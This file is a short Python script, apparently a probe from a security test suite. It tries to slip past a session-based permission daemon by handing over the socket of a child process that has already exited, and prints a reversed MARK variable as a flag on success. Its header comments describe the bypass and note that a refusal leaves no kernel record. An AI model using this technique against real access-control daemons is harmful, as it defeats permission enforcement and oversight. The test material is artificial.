#!/usr/bin/python3
# tries: to pass for a free process, by a connection to the daemon whose process has ended: nothing shows any more that
#   it was in a session
# works: outside any session the first request, on a connection of its own, is answered as to any user
# see: bpf_task_storage.c, which says the same of a task without a label and of none; the confused deputy
# goal: run
# unrecorded: the daemon says no, which is no event of the kernel
# alone: there is one daemon
import json
import os
import socket
import time

REQUEST = json.dumps({"protocol": 2, "request": {"verb": "events", "last": 1}}).encode() + b"\n"


def connect():
    s = socket.socket(socket.AF_UNIX)
    s.connect("/run/gatekeeper/control.sock")
    s.settimeout(20)
    return s


def ask(s):
    """Whether the daemon answers the request, to the end."""
    try:
        s.sendall(REQUEST)
        answer = s.makefile().read()
    except OSError as error:
        answer = str(error)
    print(answer[-200:])
    return '"answer":"done"' in (answer.splitlines() or [""])[-1]


def ask_by_the_dead(wait):
    """Has a child connect and end, and asks on what it left."""
    here, there = socket.socketpair()
    child = os.fork()
    if child == 0:
        s = connect()
        # The daemon has looked at who connects, and waits for the request.
        time.sleep(wait)
        socket.send_fds(there, [b"x"], [s.fileno()])
        os._exit(0)
    there.close()
    received = socket.recv_fds(here, 1, 1)[1]
    os.waitpid(child, 0)
    if not received:
        return False
    s = socket.socket(fileno=received[0])
    s.settimeout(20)
    return ask(s)


answers = [ask(connect())] + [ask_by_the_dead(wait) for wait in (0, 0.5, 0.5)]
if any(answers):
    print(os.environ["MARK"][::-1])
